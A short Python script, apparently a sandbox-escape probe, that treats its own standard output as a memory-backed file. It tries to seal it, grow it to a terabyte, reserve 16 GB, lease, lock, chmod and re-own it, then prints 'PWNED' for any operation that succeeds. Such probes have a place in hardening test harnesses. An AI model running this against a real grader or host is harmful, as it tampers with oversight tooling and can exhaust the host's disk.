# the output is a memory file: seal it, map it, grow it without writing, cut it
import ctypes, fcntl, mmap, os
hit = []
os.write(1, b"x" * 100)
for name, act in {
    "seal": lambda: fcntl.fcntl(1, 1033, 15),
    "grow": lambda: os.ftruncate(1, 1 << 40),
    "reserve": lambda: os.posix_fallocate(1, 0, 1 << 34),
    "lease": lambda: fcntl.fcntl(1, 1024, 1),
    "lock": lambda: fcntl.flock(1, fcntl.LOCK_EX),
    "notify": lambda: fcntl.fcntl(1, 1026, 1),
    "mode": lambda: os.fchmod(1, 0o777),
    "owner": lambda: fcntl.fcntl(1, 8, os.getppid()),
}.items():
    try: act(); hit.append(name)
    except OSError as e: print(name, e)
if hit: print("PWNED", hit)
